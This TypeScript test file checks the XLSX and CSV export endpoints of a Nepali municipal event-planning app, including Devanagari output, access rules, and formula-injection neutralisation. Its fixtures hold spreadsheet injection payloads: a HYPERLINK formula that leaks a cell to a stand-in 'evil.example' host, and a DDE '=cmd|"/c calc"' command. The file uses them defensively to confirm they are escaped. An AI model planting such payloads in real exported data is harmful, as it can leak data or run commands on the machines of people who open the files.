import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adToBsString, bsToAdString, toDevanagariDigits } from '@karyayojana/nepali-calendar';
import { bearer } from '../../../test/support/test-app.js';
import { client, createWorld, type World } from '../../../test/support/events-world.js';

// GET /api/events/export and GET /api/companies/export (issue 15 part 1): the files are read
// back here, the workbook with exceljs and the CSV with the small RFC 4180 parser below.
// 2026-11-21 in Kathmandu is BS 2083-08-05 (events-world's clock): 2083/84 is the active year.

let w: World;
let c: ReturnType<typeof client>;
let homeName: string;
let fy: number;
let cats: number[];

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

const NE_HEADERS = [
  'क्र.सं.',
  'मिति (वि.सं.)',
  'मिति (ई.सं.)',
  'समय',
  'शीर्षक',
  'विवरण',
  'विषयगत क्षेत्र',
  'जिम्मेवार व्यक्ति / शाखा',
  'स्थिति',
  'कार्यहरू',
  'प्रमाण',
  'सम्पन्न मिति',
  'उपलब्धि वा कारण',
  'प्रगति (%)',
  'बजेट (रु.)',
  'खर्च (रु.)',
  'वडा',
  'शाखा',
  'id',
];
const EN_HEADERS = [
  'No.',
  'Date (BS)',
  'Date (AD)',
  'Time',
  'Title',
  'Description',
  'Categories',
  'Responsible',
  'Status',
  'Tasks',
  'Proof',
  'Completed on',
  'Outcome or reason',
  'Progress (%)',
  'Budget (Rs.)',
  'Spent (Rs.)',
  'Wards',
  'Branch',
  'id',
];

function download(path: string, token?: string, lang?: string) {
  return w.t.app.inject({
    url: path,
    headers: { ...(token ? bearer(token) : {}), ...(lang ? { 'accept-language': lang } : {}) },
  });
}

/** The workbook's first sheet as rows of cell values (1-based columns dropped to 0-based). */
async function sheetRows(body: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ExcelJS.Buffer);
  const sheet = wb.worksheets[0]!;
  const rows: unknown[][] = [];
  const types: ExcelJS.ValueType[] = [];
  sheet.eachRow((row) => {
    const values: unknown[] = [];
    row.eachCell({ includeEmpty: true }, (cell, col) => {
      values[col - 1] = cell.value;
      types.push(cell.type);
    });
    rows.push(values);
  });
  return { sheet, rows, types };
}

/** RFC 4180: fields split by commas, records by CRLF, quoted fields may hold both and "". */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else if (ch === '\n' || ch === '\r') throw new Error(`a bare line break at ${i}`);
    else field += ch;
  }
  if (field !== '' || record.length) throw new Error('the last record has no CRLF');
  return records;
}

function csvOf(body: Buffer): string[][] {
  expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder('utf-8', { fatal: true }).decode(body.subarray(3));
  return parseCsv(text);
}

const titles = (rows: unknown[][]) => rows.slice(1).map((r) => r[4]);

beforeAll(async () => {
  w = await createWorld();
  c = client(w.t);
  fy = await c.yearId('2083/84');
  cats = await c.categoryIds();
  const home = await w.t.ctx.db
    .selectFrom('companies')
    .select('name')
    .where('id', '=', w.home)
    .executeTakeFirstOrThrow();
  homeName = home.name;
  const base = { fiscal_year_id: fy, content: 'विवरण' };
  const water = await c.createEvent(w.admin, {
    ...base,
    title: 'खानेपानी योजना हस्तान्तरण',
    content: 'धारा, "पानी" र\nदोस्रो हरफ',
    date: '2083-08-02',
    assignTo: 'खानेपानी शाखा',
    categories: [cats[0]],
    tasks: ['धारा जडान', 'हस्तान्तरण बैठक'],
  });
  await c.attach(w.admin, water.tasks[0]!.id);
  const done = await c.call('PUT', `/api/events/${water.id}`, w.admin, {
    ...base,
    title: water.title,
    content: water.content,
    date: water.date,
    assignTo: water.assignTo,
    categories: [cats[0]],
    status: 'done',
    completed_date: '2083-08-03',
    outcome: '३०० घरधुरीमा धारा',
    budget: 1_234_567,
    spent: 1_200_000,
  });
  expect(done.statusCode, done.body).toBe(200);
  await c.createEvent(w.admin, {
    ...base,
    title: HYPERLINK,
    date: '2083-09-10',
    categories: [cats[1]],
  });
  await c.createEvent(w.admin, {
    ...base,
    title: '+1',
    content: '-1',
    assignTo: '@SUM(A1:A2)',
    date: '2083-07-01',
    tasks: ['=1+1 ट्याब'],
  });
  await c.createEvent(w.admin, { ...base, title: 'वडा भेला', date: '2083-10-01' });
  await c.createEvent(w.admin, {
    ...base,
    fiscal_year_id: await c.yearId('2082/83'),
    title: 'पुरानो वर्षको कार्यक्रम',
    date: '2082-05-01',
  });
  await c.createEvent(w.otherAdmin, {
    ...base,
    title: 'अर्को पालिकाको कार्यक्रम',
    date: '2083-08-02',
  });
});
afterAll(() => w.t.close());

describe('GET /api/events/export', () => {
  it('sends the year as a workbook named for the municipality and the year', async () => {
    const res = await download(`/api/events/export?fiscal_year_id=${fy}`, w.admin);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const disposition = String(res.headers['content-disposition']);
    expect(disposition).toMatch(/^attachment; filename="events-2083-84\.xlsx"; filename\*=UTF-8''/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1]!)).toBe(
      `${homeName} events-2083-84.xlsx`,
    );
    expect(res.rawPayload.subarray(0, 2).toString()).toBe('PK');

    const { rows, types } = await sheetRows(res.rawPayload);
    expect(rows[0]).toEqual(NE_HEADERS);
    // Sorted by date like the list; the other year's and the other municipality's are not in it.
    expect(titles(rows)).toEqual(["'+1", 'खानेपानी योजना हस्तान्तरण', `'${HYPERLINK}`, 'वडा भेला']);
    expect(rows.slice(1).map((r) => r[0])).toEqual([1, 2, 3, 4]);
    const water = rows[2]!;
    expect(water.slice(0, 11)).toEqual([
      2,
      '२०८३-०८-०२',
      bsToAdString('2083-08-02'),
      '10:00',
      'खानेपानी योजना हस्तान्तरण',
      'धारा, "पानी" र\nदोस्रो हरफ',
      expect.any(String),
      'खानेपानी शाखा',
      'सम्पन्न भएको',
      'धारा जडान\nहस्तान्तरण बैठक',
      'छ\nछैन',
    ]);
    expect(water.slice(11)).toEqual([
      toDevanagariDigits('2083-08-03'),
      '३०० घरधुरीमा धारा',
      100,
      1_234_567,
      1_200_000,
      // No ward and no branch (issue 28): the whole municipality's.
      'पालिका स्तरीय',
      '',
      expect.any(Number),
    ]);
    // The last column is the event's id, for an import back into the same year (issue 26).
    expect(water.at(-1)).toBeGreaterThan(0);
    expect(water[6]).toBe('आर्थिक विकास');
    const late = rows[1]!;
    expect(late[8]).toBe('सम्पन्न नभएको (म्याद नाघेको)');
    // Values only: no cell of the workbook is a formula.
    expect(types).not.toContain(ExcelJS.ValueType.Formula);
  });

  it('speaks English to an English caller', async () => {
    const res = await download(`/api/events/export?fiscal_year_id=${fy}`, w.admin, 'en');
    const { rows } = await sheetRows(res.rawPayload);
    expect(rows[0]).toEqual(EN_HEADERS);
    const water = rows[2]!;
    expect(water[1]).toBe('2083-08-02');
    // A category by its English name (docs/behaviour.md §6); the Nepali sheet has आर्थिक विकास.
    expect(water[6]).toBe('Economic development');
    expect(water[8]).toBe('Done');
    expect(water[10]).toBe('Yes\nNo');
    expect(water[11]).toBe('2083-08-03');
    expect(rows[1]![8]).toBe('Not done (Overdue)');
  });

  it('writes CSV as UTF-8 with a BOM and CRLF, Devanagari intact, formulas neutralised', async () => {
    const res = await download(`/api/events/export?fiscal_year_id=${fy}&format=csv`, w.admin);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(String(res.headers['content-disposition'])).toContain('filename="events-2083-84.csv"');
    const bytes = res.rawPayload;
    // The header's first word in UTF-8 right after the BOM: क्र.सं.
    expect(bytes.subarray(3, 3 + Buffer.byteLength('क्र.सं.')).toString('utf8')).toBe('क्र.सं.');
    expect(bytes.toString('utf8').endsWith('\r\n')).toBe(true);
    const rows = csvOf(bytes);
    expect(rows[0]).toEqual(NE_HEADERS);
    expect(rows).toHaveLength(5);
    for (const r of rows) expect(r).toHaveLength(NE_HEADERS.length);
    const [, late, water, link] = rows;
    expect(water!.slice(1, 11)).toEqual([
      '२०८३-०८-०२',
      bsToAdString('2083-08-02'),
      '10:00',
      'खानेपानी योजना हस्तान्तरण',
      'धारा, "पानी" र\nदोस्रो हरफ',
      expect.any(String),
      'खानेपानी शाखा',
      'सम्पन्न भएको',
      'धारा जडान\nहस्तान्तरण बैठक',
      'छ\nछैन',
    ]);
    expect(water!.slice(13, 16)).toEqual(['100', '1234567', '1200000']);
    expect(water!.at(-1)).toMatch(/^\d+$/);
    // Every cell that a spreadsheet would run starts with a quote.
    expect(link![4]).toBe(`'${HYPERLINK}`);
    expect(late!.slice(4, 8)).toEqual(["'+1", "'-1", '', "'@SUM(A1:A2)"]);
    expect(late![9]).toBe("'=1+1 ट्याब");
    for (const r of rows)
      for (const cell of r) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('neutralises the same cells in the workbook', async () => {
    const res = await download(`/api/events/export?fiscal_year_id=${fy}`, w.admin);
    const { rows } = await sheetRows(res.rawPayload);
    expect(rows[1]!.slice(4, 8)).toEqual(["'+1", "'-1", '', "'@SUM(A1:A2)"]);
    for (const r of rows)
      for (const cell of r) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports what the list shows: status, overdue, search, category, every year', async () => {
    const csv = async (query: string) => {
      const res = await download(`/api/events/export?format=csv&${query}`, w.admin);
      expect(res.statusCode, res.body).toBe(200);
      return titles(csvOf(res.rawPayload));
    };
    expect(await csv(`fiscal_year_id=${fy}&status=overdue`)).toEqual(["'+1"]);
    expect(await csv(`fiscal_year_id=${fy}&status=done`)).toEqual(['खानेपानी योजना हस्तान्तरण']);
    expect(await csv(`fiscal_year_id=${fy}&q=${encodeURIComponent('भेला')}`)).toEqual(['वडा भेला']);
    expect(await csv(`fiscal_year_id=${fy}&category_id=${cats[1]}`)).toEqual([`'${HYPERLINK}`]);
    expect(await csv(`fiscal_year_id=${fy}&sort=desc`)).toEqual([
      'वडा भेला',
      `'${HYPERLINK}`,
      'खानेपानी योजना हस्तान्तरण',
      "'+1",
    ]);
    const all = await download('/api/events/export?format=csv', w.admin);
    expect(String(all.headers['content-disposition'])).toContain('filename="events.csv"');
    expect(titles(csvOf(all.rawPayload))).toContain('पुरानो वर्षको कार्यक्रम');
    expect(titles(csvOf(all.rawPayload))).not.toContain('अर्को पालिकाको कार्यक्रम');
  });

  it('keeps to the list’s rules: own municipality, 404 for another’s, 422 for a bad query', async () => {
    expect((await download('/api/events/export', w.user)).statusCode).toBe(200);
    expect((await download('/api/events/export', w.expiredUser)).statusCode).toBe(200);
    const other = await download(`/api/events/export?company_id=${w.home}`, w.otherAdmin);
    expect(other.statusCode).toBe(404);
    const sa = await download(`/api/events/export?company_id=${w.home}&format=csv`, w.sa);
    expect(sa.statusCode).toBe(200);
    expect(csvOf(sa.rawPayload)).toHaveLength(6);
    expect((await download('/api/events/export?company_id=999999', w.sa)).statusCode).toBe(404);
    const bad = await download('/api/events/export?format=pdf', w.admin);
    expect(bad.statusCode).toBe(422);
    expect(bad.headers['content-type']).toMatch(/^application\/json/);
    expect(bad.json<{ errors: Record<string, string[]> }>().errors.format?.[0]).toContain(
      'फाइलको ढाँचा',
    );
    expect((await download('/api/events/export')).statusCode).toBe(401);
  });
});

describe('GET /api/companies/export', () => {
  beforeAll(async () => {
    await w.t.ctx.db
      .updateTable('companies')
      .set({
        description: '=cmd|"/c calc"!A1',
        province: 'गण्डकी प्रदेश',
        district: 'कास्की',
        municipality: 'पोखरा महानगरपालिका',
        email: 'info@example.org',
        expiry_date: '2027-07-16',
      })
      .where('id', '=', w.home)
      .execute();
  });

  it('gives the Super-Admin every municipality, as a workbook and as CSV', async () => {
    const res = await download('/api/companies/export', w.sa);
    expect(res.statusCode, res.body).toBe(200);
    const disposition = String(res.headers['content-disposition']);
    expect(disposition).toMatch(/^attachment; filename="municipalities\.xlsx"; filename\*=/);
    expect(decodeURIComponent(disposition.split("UTF-8''")[1]!)).toBe(
      'पालिकाहरू municipalities.xlsx',
    );
    const { rows, types } = await sheetRows(res.rawPayload);
    expect(rows[0]).toEqual([
      'क्र.सं.',
      'नाम',
      'नारा / विवरण',
      'प्रदेश',
      'जिल्ला',
      'स्थानीय तह',
      'ठेगाना',
      'सम्पर्क नम्बर',
      'इमेल',
      'वेबसाइट',
      'सदस्यता सकिने मिति (ई.सं.)',
      'सदस्यता सकिने मिति (वि.सं.)',
      'अवस्था',
    ]);
    // Every municipality but the owner company, which is not one.
    expect(rows).toHaveLength(4);
    const home = rows.find((r) => r[1] === homeName)!;
    expect(home.slice(2, 6)).toEqual([
      `'=cmd|"/c calc"!A1`,
      'गण्डकी प्रदेश',
      'कास्की',
      'पोखरा महानगरपालिका',
    ]);
    expect(home.slice(8)).toEqual([
      'info@example.org',
      '',
      '2027-07-16',
      toDevanagariDigits(adToBsString('2027-07-16')),
      'सक्रिय',
    ]);
    expect(rows.find((r) => r[10] === '2020-01-01')![12]).toBe('म्याद सकिएको');
    expect(types).not.toContain(ExcelJS.ValueType.Formula);

    const csv = await download('/api/companies/export?format=csv', w.sa, 'en');
    expect(String(csv.headers['content-disposition'])).toContain('filename="municipalities.csv"');
    const records = csvOf(csv.rawPayload);
    expect(records[0]![1]).toBe('Name');
    const row = records.find((r) => r[1] === homeName)!;
    expect(row[2]).toBe(`'=cmd|"/c calc"!A1`);
    expect(row.slice(10)).toEqual(['2027-07-16', adToBsString('2027-07-16'), 'Active']);
  });

  it('is the Super-Admin’s alone', async () => {
    expect((await download('/api/companies/export', w.admin)).statusCode).toBe(403);
    expect((await download('/api/companies/export?format=csv', w.user)).statusCode).toBe(403);
    expect((await download('/api/companies/export')).statusCode).toBe(401);
    expect((await download('/api/companies/export?format=ods', w.sa)).statusCode).toBe(422);
  });
});
